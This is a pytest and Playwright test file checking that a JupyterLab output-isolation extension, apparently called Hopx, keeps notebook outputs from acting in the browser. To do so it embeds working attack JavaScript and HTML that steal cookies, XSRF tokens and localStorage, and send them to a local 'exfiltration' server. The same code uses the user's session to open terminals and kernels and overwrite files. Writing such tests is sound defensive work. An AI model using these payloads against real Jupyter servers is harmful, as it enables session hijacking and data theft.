"""A Hopx kernel's output cannot act in the user's browser (real JupyterLab, headless Chromium).

An attack notebook tries everything an output can do to the page that renders it: script in
HTML, JavaScript, SVG, Markdown and `isolated` outputs reads the session's cookie and
`localStorage`, calls the server's REST and websocket APIs with the user's session (a terminal,
the stock unsandboxed kernel, a file overwrite), touches the page's DOM, navigates, opens
windows, submits forms, and loads from another origin in every way HTML and CSS allow. A test
HTTP server on another loopback address counts every request it gets.

On a Hopx kernel nothing gets through, live or reopened from the saved notebook, while the
scripts demonstrably run inside their frames. The very same outputs on the stock kernel, in the
same test, do get through: the test can fail.
"""

from __future__ import annotations

import contextlib
import html
import json
import os
import socket
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import nbformat
import pytest
from playwright.sync_api import Browser, Frame, Page, expect

from browser_harness import UI_TIMEOUT, open_notebook, shoot
from conftest import wait_until
from server_harness import Server

VICTIM = "victim.txt"
LOCKDOWN_PRESET = (
    Path(__file__).parent.parent / "examples" / "lockdown" / "jupyter_server_config.py"
)
VICTIM_TEXT = "the user's file\n"


@dataclass
class Exfiltration:
    """An HTTP server on 127.0.0.2 (another origin than the Jupyter server's 127.0.0.1) that
    records the path of every request it gets, and a UDP port there (a STUN server for WebRTC)
    that records every packet."""

    url: str
    stun_port: int
    paths: list[str] = field(default_factory=list)
    packets: list[bytes] = field(default_factory=list)

    def vectors(self) -> set[str]:
        """The attack vectors that reached it (the first path segment after /v/)."""
        return {p.split("/")[2].split("?")[0] for p in self.paths if p.startswith("/v/")}


@pytest.fixture
def exfiltration() -> Iterator[Exfiltration]:
    received: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def _answer(self) -> None:
            received.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_GET = do_POST = do_HEAD = do_OPTIONS = _answer

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.2", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    stun = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    stun.bind(("127.0.0.2", 0))
    stun.settimeout(0.2)
    packets: list[bytes] = []
    stop = threading.Event()

    def listen() -> None:
        while not stop.is_set():
            with contextlib.suppress(TimeoutError):
                packets.append(stun.recv(2048))

    listener = threading.Thread(target=listen, daemon=True)
    listener.start()
    url = f"http://127.0.0.2:{server.server_address[1]}"
    try:
        yield Exfiltration(url, stun.getsockname()[1], received, packets)
    finally:
        stop.set()
        listener.join()
        stun.close()
        server.shutdown()
        server.server_close()


def attack_script(server: Server, exfiltration: Exfiltration, tag: str) -> str:
    """JavaScript that tries to use the user's session and reports what it got to the
    `exfiltration` servers (HTTP, and WebRTC towards its STUN port);
    it marks its own document `data-hopx-attack-<tag>` once it has tried, so a test can tell
    that it ran."""
    return f"""(function () {{
  var S = {json.dumps(server.url)}, A = {json.dumps(exfiltration.url)};
  function leak(what, data) {{
    var url = A + '/v/' + what + '-{tag}?d=' + encodeURIComponent(String(data));
    try {{ new Image().src = url; }} catch (e) {{}}
  }}
  var cookie = '';
  try {{ cookie = document.cookie; }} catch (e) {{}}
  if (cookie) {{ leak('cookie', cookie); }}
  try {{ leak('storage', JSON.stringify(localStorage)); }} catch (e) {{}}
  var xsrf = (cookie.match(/_xsrf=([^;]+)/) || [])[1] || '';
  var headers = {{ 'X-XSRFToken': decodeURIComponent(xsrf), 'Content-Type': 'application/json' }};
  function api(method, path, body) {{
    try {{
      fetch(S + path, {{ method: method, credentials: 'include', headers: headers,
                        body: body ? JSON.stringify(body) : undefined }})
        .then(function (r) {{ leak('api', method + path + '=' + r.status); }}, function () {{}});
    }} catch (e) {{}}
  }}
  api('POST', '/api/terminals');
  api('POST', '/api/kernels', {{ name: 'python3' }});
  api('PUT', '/api/contents/notebooks/{VICTIM}',
      {{ type: 'file', format: 'text', content: 'pwned' }});
  try {{ new WebSocket(S.replace('http', 'ws') + '/terminals/websocket/1'); }} catch (e) {{}}
  try {{ window.top.document.body.setAttribute('data-pwned-top', '{tag}'); }} catch (e) {{}}
  try {{ window.parent.document.body.setAttribute('data-pwned-parent', '{tag}'); }} catch (e) {{}}
  try {{ navigator.sendBeacon(A + '/v/beacon-{tag}', 'x'); }} catch (e) {{}}
  try {{ new EventSource(A + '/v/eventsource-{tag}'); }} catch (e) {{}}
  try {{ new WebSocket(A.replace('http', 'ws') + '/v/websocket-{tag}'); }} catch (e) {{}}
  try {{ fetch(A + '/v/fetch-{tag}', {{ mode: 'no-cors' }}); }} catch (e) {{}}
  try {{
    var x = new XMLHttpRequest(); x.open('GET', A + '/v/xhr-{tag}'); x.send();
  }} catch (e) {{}}
  try {{ window.open(A + '/v/open-{tag}'); }} catch (e) {{}}
  try {{
    var peer = new RTCPeerConnection(
      {{ iceServers: [{{ urls: 'stun:127.0.0.2:{exfiltration.stun_port}' }}] }});
    peer.createDataChannel('leak');
    peer.createOffer().then(function (offer) {{ return peer.setLocalDescription(offer); }});
  }} catch (e) {{}}
  document.documentElement.setAttribute('data-hopx-attack-{tag}', 'tried');
}})();"""


def loading_html(attacker: str) -> str:
    """HTML that makes a browser load from `attacker` without any script, and a form it
    submits there (late: on the stock kernel it takes the page away, ending other attacks)."""
    a = attacker
    return f"""
<img src="{a}/v/img" width="4" height="4">
<div style="background:url({a}/v/css-url);width:4px;height:4px"></div>
<style>@import url({a}/v/css-import); @font-face {{font-family: leak; src: url({a}/v/font);}}
.leak-font {{font-family: leak}}</style><span class="leak-font">font</span>
<link rel="stylesheet" href="{a}/v/link-stylesheet">
<link rel="prefetch" href="{a}/v/link-prefetch">
<link rel="preload" as="image" href="{a}/v/link-preload">
<svg width="4" height="4"><image href="{a}/v/svg-image" width="4" height="4"/></svg>
<video poster="{a}/v/video-poster" width="4" height="4"></video>
<audio src="{a}/v/audio" preload="auto"></audio>
<object data="{a}/v/object" width="4" height="4"></object>
<embed src="{a}/v/embed" width="4" height="4">
<iframe src="{a}/v/iframe" width="4" height="4"></iframe>
<iframe srcdoc="&lt;img src='{a}/v/iframe-srcdoc'&gt;" width="4" height="4"></iframe>
<script src="{a}/v/script-src"></script>
<form id="hopx-leak-form" action="{a}/v/form" method="post"><input name="d" value="1"></form>
<script>setTimeout(function () {{ document.getElementById('hopx-leak-form').submit(); }}, 2000);
</script>
"""


def navigation_html(attacker: str) -> str:
    """HTML whose only aim is to navigate its frame (or the page) to `attacker`."""
    return (
        f'<meta http-equiv="refresh" content="0;url={attacker}/v/meta-refresh">'
        f"<script>setTimeout(function () {{ location.href = '{attacker}/v/navigate'; }}, 200);"
        f"try {{ top.location = '{attacker}/v/top-navigate'; }} catch (e) {{}}</script>"
        f'<a id="hopx-leak-link" href="{attacker}/v/link-click" ping="{attacker}/v/ping">x</a>'
        "<script>document.getElementById('hopx-leak-link').click();</script>"
    )


def attack_cells(server: Server, exfiltration: Exfiltration) -> list[str]:
    """The attack notebook's code: one cell of script and loads in every output kind, and one
    cell that navigates (last, since on the stock kernel it takes the page away)."""
    scripts = {
        tag: attack_script(server, exfiltration, tag)
        for tag in ("html", "js", "svg", "iso", "widget")
    }
    attacker = exfiltration.url
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">'
        f"<script>{scripts['svg']}</script>"
        f'<image href="{attacker}/v/svg-output-image" width="4" height="4"/></svg>'
    )
    # Widgets: HTML set as innerHTML (a handler runs where it lands) and an image by URL.
    widget_html = (
        f"<img src='{attacker}/v/widget-html-img'>"
        f"<img src='data:,' onerror=\"{html.escape(scripts['widget'])}\">"
    )
    first = f"""from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML({json.dumps("<script>" + scripts["html"] + "</script>")}))
display(Javascript({json.dumps(scripts["js"])}))
display({{"image/svg+xml": {json.dumps(svg)}, "text/plain": "svg"}}, raw=True)
display(HTML({json.dumps("<script>" + scripts["iso"] + "</script>")}),
        metadata={{"isolated": True}})
display(HTML({json.dumps(loading_html(attacker))}))
display(Markdown("![leak]({attacker}/v/markdown-image) <img src='{attacker}/v/markdown-html'>"))
import ipywidgets
display(ipywidgets.HTML({json.dumps(widget_html)}))
display(ipywidgets.Image(value=b"{attacker}/v/widget-image", format="url"))
print("attack cell done")"""
    second = f"""from IPython.display import HTML, display
display(HTML({json.dumps(navigation_html(attacker))}))
print("navigation cell done")"""
    return [first, second]


def write_attack_notebook(
    server: Server, name: str, kernel: str, exfiltration: Exfiltration
) -> str:
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": kernel, "display_name": kernel, "language": "python"}
    nb.cells = [nbformat.v4.new_code_cell(code) for code in attack_cells(server, exfiltration)]
    nbformat.write(nb, server.root / "notebooks" / name)
    return f"notebooks/{name}"


def run_cell(page: Page, index: int, done_text: str) -> None:
    page.locator(".jp-Notebook .jp-Cell").nth(index).locator(".jp-InputArea-editor").click()
    page.keyboard.press("Shift+Enter")
    expect(page.locator(".jp-Notebook .jp-Cell").nth(index)).to_contain_text(
        done_text, timeout=UI_TIMEOUT
    )


def frames_marked(page: Page, attribute: str) -> list[Frame]:
    """The frames of `page` whose document carries `attribute`."""
    marked = []
    for frame in page.frames:
        try:
            if frame.evaluate(f"document.documentElement.hasAttribute({json.dumps(attribute)})"):
                marked.append(frame)
        except Exception:  # noqa: S112 - a frame navigating away or gone: not marked
            continue
    return marked


def assert_contained(page: Page, tags: tuple[str, ...] = ("html", "js", "svg", "iso")) -> None:
    """No attack script ran in the page itself, and each that ran is in a frame that cannot
    reach the page's document."""
    ran_here = page.evaluate(
        "Array.from(document.documentElement.attributes).some("
        "a => a.name.startsWith('data-hopx-attack'))"
    )
    assert not ran_here, "an attack script ran in the page itself"
    for tag in tags:
        for frame in frames_marked(page, f"data-hopx-attack-{tag}"):
            reaches_page = frame.evaluate(
                "(() => { try { return !!window.top.document.body; }"
                " catch (e) { return false; } })()"
            )
            assert not reaches_page, f"the {tag} output ran in a frame that reaches the page"


def saved_outputs(path: Path) -> int:
    """How many outputs the saved notebook at `path` holds."""
    try:
        nb = nbformat.read(path, as_version=4)
    except Exception:
        return 0
    return sum(len(cell.get("outputs", [])) for cell in nb.cells)


def kernel_names(server: Server) -> list[str]:
    """The names of the server's kernels. jupyter_server answers 500 when the list is asked
    for while a kernel is starting (its model's `last_activity` is not set yet): ask again."""
    for _ in range(20):
        response = server.api("GET", "/api/kernels")
        if response.status_code != 500:
            break
        time.sleep(0.1)
    kernels = response.json()
    assert isinstance(kernels, list), kernels
    return sorted(k["name"] for k in kernels)


def page_state(server: Server, page: Page) -> dict[str, object]:
    """What an attack would change outside its frame."""
    body = page.locator("body")
    return {
        "terminals": server.api("GET", "/api/terminals").json(),
        "kernels": kernel_names(server),
        "victim": (server.root / "notebooks" / VICTIM).read_text(),
        "pwned_top": body.get_attribute("data-pwned-top"),
        "pwned_parent": body.get_attribute("data-pwned-parent"),
        "url": page.url.split("?")[0],
    }


def test_hopx_outputs_cannot_act_in_the_browser_but_stock_ones_can(
    lab: Server,
    browser: Browser,
    make_kernelspec: Callable[..., str],
    exfiltration: Exfiltration,
) -> None:
    make_kernelspec("hopx-lab")
    (lab.root / "notebooks" / VICTIM).write_text(VICTIM_TEXT)

    # Live, on the Hopx kernel: every output kind's script runs, inside its frame only.
    path = write_attack_notebook(lab, "attack.ipynb", "hopx-lab", exfiltration)
    page = open_notebook(browser, lab, path, "attack-hopx")
    before = page_state(lab, page)
    assert before["kernels"] == ["hopx-lab"]
    run_cell(page, 0, "attack cell done")
    run_cell(page, 1, "navigation cell done")
    for tag in ("html", "js", "svg"):
        assert wait_until(lambda tag=tag: frames_marked(page, f"data-hopx-attack-{tag}"), 30), (
            f"the {tag} output's script did not run in its frame"
        )
    page.wait_for_timeout(3000)  # time for loads, navigations and API calls to land
    shoot(page, "isolation-01-attack-hopx")
    assert exfiltration.paths == [], f"a Hopx output reached another origin: {exfiltration.paths}"
    assert exfiltration.packets == [], "a Hopx output sent WebRTC packets to another host"
    assert page_state(lab, page) == before
    assert_contained(page)

    # Saved and reopened: the restored outputs are just as contained.
    page.locator('.jp-NotebookPanel-toolbar [data-jp-item-name="save"] button').click()
    assert wait_until(lambda: saved_outputs(lab.root / path) >= 8, 30)
    page.close()
    reopened = open_notebook(browser, lab, path, "attack-hopx-reopened")
    for tag in ("html", "js", "svg"):
        assert wait_until(lambda tag=tag: frames_marked(reopened, f"data-hopx-attack-{tag}"), 30)
    reopened.wait_for_timeout(3000)
    shoot(reopened, "isolation-02-attack-hopx-reopened")
    assert exfiltration.paths == [], "a restored Hopx output reached another origin"
    assert exfiltration.packets == [], "a restored Hopx output sent WebRTC packets"
    assert_contained(reopened)
    state = page_state(lab, reopened)
    assert {k: v for k, v in state.items() if k != "url"} == {
        k: v for k, v in before.items() if k != "url"
    }
    reopened.close()
    for kernel in lab.api("GET", "/api/kernels").json():
        lab.api("DELETE", f"/api/kernels/{kernel['id']}")

    # The same outputs from the stock kernel act with the user's session: the test can fail.
    stock_path = write_attack_notebook(lab, "attack-stock.ipynb", "python3", exfiltration)
    stock = open_notebook(browser, lab, stock_path, "attack-stock")
    run_cell(stock, 0, "attack cell done")
    assert wait_until(lambda: (lab.root / "notebooks" / VICTIM).read_text() == "pwned", 30)
    assert wait_until(lambda: lab.api("GET", "/api/terminals").json() != [], 30)
    # The notebook's own python3 kernel, and those its outputs' scripts started.
    assert wait_until(lambda: kernel_names(lab).count("python3") >= 2, 30)
    assert wait_until(lambda: any("_xsrf" in p for p in exfiltration.paths), 30)
    assert wait_until(lambda: exfiltration.packets, 30), "no WebRTC packet from the stock kernel"
    # Loads without script, and a form submitted to the other origin (it navigates the page).
    assert wait_until(lambda: {"img", "css-url", "form"} <= exfiltration.vectors(), 30)
    stock.close()


# One cell per kind of output people use; each renders: natively, inert in the page, or in its
# frame.
USABILITY_CELLS = [
    # matplotlib, PNG (the inline backend's default) and SVG
    "import matplotlib.pyplot as plt\nplt.plot([1, 2, 3], [3, 1, 2])\nplt.show()",
    "from matplotlib_inline.backend_inline import set_matplotlib_formats\n"
    "set_matplotlib_formats('svg')\nplt.plot([1, 2, 3], [1, 3, 2])\nplt.show()",
    "import pandas as pd\npd.DataFrame({'city': ['Oslo', 'Lima'], 'people': [709037, 10092000]})",
    "from IPython.display import HTML, Image, Latex, Markdown, display\n"
    "display(HTML('<b class=\"greeting\">Hello from HTML</b>'))\n"
    # An inert output trying to lie over the whole page.
    'display(HTML(\'<div class="cover" style="position:fixed;inset:0;z-index:99999;'
    "background:rgba(255,0,0,.5)\">cover</div>'))\n"
    "display(Markdown('## A heading\\n\\nSome *emphasis* and $e^{i\\\\pi} + 1 = 0$'))\n"
    "display(Latex(r'$$\\int_0^1 x^2 \\, dx = \\frac{1}{3}$$'))\n"
    "import base64\n"
    "display(Image(data=base64.b64decode("
    "'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=='"
    ")))",
    "print('\\x1b[31mred\\x1b[0m and plain')",
    # A bar chart draws with Plotly's cartesian build, a sunburst needs its full one.
    "import plotly.express as px\n"
    "display(px.sunburst(names=['all', 'a', 'b'], parents=['', 'all', 'all'], values=[3, 1, 2]))\n"
    "px.bar(x=['a', 'b', 'c'], y=[1, 3, 2])",
    "import altair as alt\n"
    "alt.Chart(pd.DataFrame({'x': ['a', 'b'], 'y': [1, 3]})).mark_bar().encode(x='x', y='y')",
    "import ipywidgets as widgets\n"
    "slider = widgets.IntSlider(value=3, min=0, max=10, description='n')\n"
    "squares = widgets.Output()\n"
    "def show(change):\n"
    "    squares.clear_output(wait=True)\n"
    "    with squares:\n"
    "        print('square', change['new'] ** 2)\n"
    "slider.observe(show, names='value')\n"
    "show({'new': slider.value})\n"
    "display(slider, squares)",
    "print('the kernel has', slider.value)",
    "1 / 0",
]


def run_all_cells(page: Page) -> None:
    page.locator(".lm-MenuBar-itemLabel").get_by_text("Run", exact=True).click()
    page.locator(".lm-Menu-itemLabel").get_by_text("Run All Cells", exact=True).click()


def frame_with(page: Page, selector: str, timeout: float = 30) -> Frame:
    """The first frame of `page` whose document has an element matching `selector`."""

    def find() -> Frame | None:
        for frame in page.frames[1:]:
            try:
                if frame.evaluate(f"!!document.querySelector({json.dumps(selector)})"):
                    return frame
            except Exception:  # noqa: S112 - a frame being replaced: look again
                continue
        return None

    found = wait_until(find, timeout)
    assert found, f"no output frame shows {selector}"
    return found  # type: ignore[no-any-return]


def frame_height(page: Page, frame: Frame) -> float:
    """The height the page gave `frame`'s outer iframe (px)."""
    outer = frame.parent_frame
    assert outer is not None
    element = outer.frame_element()
    return float(element.evaluate("e => e.getBoundingClientRect().height"))


@pytest.mark.parametrize(
    ("theme", "server_args"),
    [("JupyterLab Light", []), ("JupyterLab Dark", [f"--config={LOCKDOWN_PRESET}"])],
    ids=["light", "dark-lockdown"],
)
def test_what_people_display_renders_in_the_page_or_its_frames(
    lab: Server, browser: Browser, make_kernelspec: Callable[..., str], theme: str
) -> None:
    """Every kind of output people display renders (in the dark theme, under lockdown's page
    policy, which the frames inherit): text and images by JupyterLab itself, inert HTML (a
    pandas table, an HTML snippet) and a script-free SVG rebuilt in the page, styled by
    JupyterLab's rules and theme and unable to paint outside its box; the rest in frames as
    tall as their content, a widget slider driving an output and the kernel both ways."""
    make_kernelspec("hopx-lab", memory_limit="1G")
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "hopx-lab", "display_name": "Hopx", "language": "python"}
    nb.cells = [nbformat.v4.new_code_cell(code) for code in USABILITY_CELLS]
    nbformat.write(nb, lab.root / "notebooks" / "outputs.ipynb")
    dark = "Dark" in theme
    page = open_notebook(browser, lab, "notebooks/outputs.ipynb", f"outputs-{dark}")
    run_all_cells(page)
    # Run All stops at an error: the traceback is the last cell's.
    expect(page.locator(".jp-Notebook .jp-Cell").last).to_contain_text(
        "ZeroDivisionError", timeout=90_000
    )
    cells = page.locator(".jp-Notebook .jp-Cell")

    # Inert kinds stay JupyterLab's own: PNG images, ANSI colours, tracebacks.
    expect(cells.nth(0).locator('img[src^="data:image/png"]')).to_be_visible()
    expect(cells.nth(4).locator(".ansi-red-fg")).to_have_text("red")
    expect(
        cells.nth(9).locator('[data-mime-type="application/vnd.jupyter.stderr"]')
    ).to_contain_text("ZeroDivisionError")
    expect(cells.nth(3).locator('img[src^="data:image/png"]')).to_have_count(1)

    # Inert ones rebuilt in the page, in shadow roots, with JupyterLab's table rules and theme.
    svg = cells.nth(1).locator('.hopx-InertOutput img[src^="data:image/svg+xml"]')
    expect(svg).to_be_visible()
    assert svg.evaluate("image => image.naturalWidth") > 100
    table = cells.nth(2).locator(".hopx-InertOutput table.dataframe")
    expect(table.locator("tbody tr")).to_have_count(2)
    assert table.locator("tbody").inner_text().count("Oslo") == 1
    assert table.evaluate("t => getComputedStyle(t).borderCollapse") == "collapse"
    greeting = cells.nth(3).locator(".hopx-InertOutput b.greeting")
    expect(greeting).to_have_text("Hello from HTML")
    themed = page.evaluate(
        "(() => { const probe = document.createElement('b');"
        " probe.style.color = 'var(--jp-content-font-color1)'; document.body.append(probe);"
        " const colour = getComputedStyle(probe).color; probe.remove(); return colour; })()"
    )
    assert greeting.evaluate("b => getComputedStyle(b).color") == themed
    # The cover paints inside its own output, not over JupyterLab's menu or the other cells.
    cover = cells.nth(3).locator(".hopx-InertOutput .cover")
    expect(cover).to_have_text("cover")
    box = cover.bounding_box()
    assert box is not None
    editor = cells.nth(2).locator(".jp-InputArea-editor")
    editor.scroll_into_view_if_needed()
    on_top = editor.evaluate(
        "editor => { const r = editor.getBoundingClientRect();"
        " return [document.elementFromPoint(5, 5),"
        " document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2)]"
        ".map(e => !!e.closest('.hopx-InertOutput')); }"
    )
    assert on_top == [False, False]
    assert box["height"] < 100, box

    # The rest in frames, each as tall as what it shows.
    markdown = frame_with(page, "h2")
    assert "A heading" in markdown.locator("h2").inner_text()
    assert markdown.locator(".katex").count() == 1
    latex = frame_with(page, ".jp-RenderedLatex .katex-display")
    plotly = frame_with(page, ".plot-container .barlayer path")
    sunburst = frame_with(page, ".plot-container .sunburstlayer path")
    trace_types = "Object.keys(Plotly.PlotSchema.get().traces)"
    assert "sunburst" not in plotly.evaluate(trace_types)
    assert "sunburst" in sunburst.evaluate(trace_types)
    vega = frame_with(page, ".vega-embed svg, .vega-embed canvas")
    slider = frame_with(page, ".widget-slider")
    squares = frame_with(page, ".widget-output")
    expect(squares.locator(".widget-output")).to_contain_text("square 9", timeout=UI_TIMEOUT)
    expect(cells.nth(8)).to_contain_text("the kernel has 3")
    # (A frame reports its height after its content has drawn: wait for the report.)
    for frame in (markdown, latex, plotly, sunburst, vega, slider):
        assert wait_until(lambda frame=frame: frame_height(page, frame) > 15, 10)
    assert wait_until(lambda: frame_height(page, plotly) > 300, 10)
    assert wait_until(lambda: frame_height(page, sunburst) > 300, 10)

    # The slider is live: moved in its frame, the kernel follows and the output widget too.
    slider.locator(".noUi-handle").focus()
    slider.locator(".noUi-handle").press("ArrowRight")
    expect(squares.locator(".widget-output")).to_contain_text("square 16", timeout=UI_TIMEOUT)
    cells.nth(8).locator(".jp-InputArea-editor").click()
    page.keyboard.press("Shift+Enter")
    expect(cells.nth(8)).to_contain_text("the kernel has 4", timeout=UI_TIMEOUT)

    # The frames follow the page's theme.
    text_colour = page.evaluate(
        "getComputedStyle(document.body).getPropertyValue('--jp-content-font-color1').trim()"
    )
    assert (
        markdown.evaluate(
            "getComputedStyle(document.documentElement).getPropertyValue('--jp-content-font-color1').trim()"
        )
        == text_colour
    )
    assert markdown.evaluate("getComputedStyle(document.documentElement).colorScheme") == (
        "dark" if dark else "light"
    )
    for index in (2, 3, 5, 6, 7):
        cells.nth(index).scroll_into_view_if_needed()
        shoot(page, f"isolation-usability-{'dark' if dark else 'light'}-cell{index}")
    page.close()


def palette(page: Page, command: str) -> None:
    """Runs a command by its label from JupyterLab's command palette."""
    page.keyboard.press("Control+Shift+c")
    page.locator(".lm-CommandPalette-input").fill(command)
    page.locator(".lm-CommandPalette-item", has_text=command).first.click()


def test_consoles_output_views_and_the_log_console_are_contained(
    lab: Server,
    browser: Browser,
    make_kernelspec: Callable[..., str],
    exfiltration: Exfiltration,
) -> None:
    """The other places a Hopx output shows: "Create New View for Cell Output" (from a right
    click in the output frame), a console on the
    kernel, and the log console. Each runs its
    script in a frame that cannot reach the page, and nothing reaches another origin."""
    make_kernelspec("hopx-lab")
    (lab.root / "notebooks" / VICTIM).write_text(VICTIM_TEXT)
    logconsole = Path(os.environ["JUPYTERLAB_SETTINGS_DIR"], "@jupyterlab", "logconsole-extension")
    logconsole.mkdir(parents=True)
    (logconsole / "plugin.jupyterlab-settings").write_text(json.dumps({"defaultLogLevel": "info"}))
    script = {tag: attack_script(lab, exfiltration, tag) for tag in ("view", "console", "log")}
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "hopx-lab", "display_name": "Hopx", "language": "python"}
    nb.cells = [
        nbformat.v4.new_code_cell(
            "from IPython.display import HTML, display\n"
            f"display(HTML({json.dumps('<b>view</b><script>' + script['view'] + '</script>')}))"
        ),
        nbformat.v4.new_code_cell(
            f"display(HTML({json.dumps('<b>log</b><script>' + script['log'] + '</script>')}))"
        ),
    ]
    nbformat.write(nb, lab.root / "notebooks" / "places.ipynb")
    page = open_notebook(browser, lab, "notebooks/places.ipynb", "places")
    before = page_state(lab, page)

    # A second view of an output renders it again, in frames of its own.
    run_cell(page, 0, "")
    assert wait_until(lambda: len(frames_marked(page, "data-hopx-attack-view")) == 1, 30)
    page.locator(".jp-Notebook .jp-Cell").nth(0).locator(".jp-OutputArea-output").first.click(
        button="right"
    )
    page.locator(".lm-Menu-itemLabel", has_text="Create New View for Cell Output").click()
    assert wait_until(lambda: len(frames_marked(page, "data-hopx-attack-view")) == 2, 30)

    # The log console, at the "info" level, shows every output again, as it arrives.
    palette(page, "Show Log Console")
    log = page.locator(".jp-LogConsolePanel")
    expect(log).to_be_visible(timeout=UI_TIMEOUT)
    page.locator(".jp-Notebook .jp-Cell").nth(1).locator(".jp-InputArea-editor").click()
    page.keyboard.press("Shift+Enter")
    expect(log.locator(".hopx-OutputFrame")).to_have_count(2, timeout=UI_TIMEOUT)  # both cells
    # Marked twice: the cell's frame and the log console's.
    assert wait_until(lambda: len(frames_marked(page, "data-hopx-attack-log")) == 2, 30)

    # A console on the notebook's kernel.
    page.locator(".jp-Notebook .jp-Cell").nth(0).click()
    palette(page, "New Console for Notebook")
    prompt = page.locator(".jp-CodeConsole-promptCell .jp-InputArea-editor")
    expect(prompt).to_be_visible(timeout=UI_TIMEOUT)
    prompt.click()
    page.keyboard.type(f"display(HTML({json.dumps('<script>' + script['console'] + '</script>')}))")
    page.keyboard.press("Shift+Enter")
    assert wait_until(lambda: frames_marked(page, "data-hopx-attack-console"), 30)

    page.wait_for_timeout(3000)
    shoot(page, "isolation-04-view-log-console")
    assert exfiltration.paths == [], f"a Hopx output reached another origin: {exfiltration.paths}"
    assert exfiltration.packets == [], "a Hopx output sent WebRTC packets to another host"
    assert {k: v for k, v in page_state(lab, page).items() if k != "url"} == {
        k: v for k, v in before.items() if k != "url"
    }
    assert_contained(page, ("view", "log", "console"))
    page.close()


def test_a_notebook_that_left_its_hopx_kernel_keeps_its_outputs_isolated(
    lab: Server,
    browser: Browser,
    make_kernelspec: Callable[..., str],
    exfiltration: Exfiltration,
) -> None:
    """A notebook switched from a Hopx kernel to the stock one still holds the Hopx kernel's
    outputs: saved and reopened, they render in frames, not in the page."""
    make_kernelspec("hopx-lab")
    (lab.root / "notebooks" / VICTIM).write_text(VICTIM_TEXT)
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "hopx-lab", "display_name": "Hopx", "language": "python"}
    cell = nbformat.v4.new_code_cell("# output of a Hopx kernel")
    script = attack_script(lab, exfiltration, "moved")
    cell.outputs = [
        nbformat.v4.new_output(
            "display_data", data={"text/html": f"<b>moved</b><script>{script}</script>"}
        )
    ]
    nb.cells = [cell]
    path = lab.root / "notebooks" / "moved.ipynb"
    nbformat.write(nb, path)
    page = open_notebook(browser, lab, "notebooks/moved.ipynb", "moved")
    assert wait_until(lambda: frames_marked(page, "data-hopx-attack-moved"), 30)

    page.locator(".jp-NotebookPanel-toolbar .jp-KernelName").click()
    dialog = page.locator(".jp-Dialog")
    dialog.locator("select").select_option(label="Python 3 (ipykernel)")
    dialog.locator("button.jp-mod-accept").click()
    expect(page.locator(".jp-NotebookPanel-toolbar .jp-KernelName")).to_contain_text(
        "ipykernel", timeout=UI_TIMEOUT
    )
    page.locator('.jp-NotebookPanel-toolbar [data-jp-item-name="save"] button').click()
    assert wait_until(
        lambda: nbformat.read(path, as_version=4).metadata.get("hopx") == {"isolate_outputs": True},
        30,
    )
    assert nbformat.read(path, as_version=4).metadata["kernelspec"]["name"] == "python3"
    page.close()

    reopened = open_notebook(browser, lab, "notebooks/moved.ipynb", "moved-again")
    assert wait_until(lambda: frames_marked(reopened, "data-hopx-attack-moved"), 30)
    reopened.wait_for_timeout(2000)
    assert exfiltration.paths == [], (
        f"a moved Hopx output reached another origin: {exfiltration.paths}"
    )
    assert_contained(reopened, ("moved",))
    reopened.close()
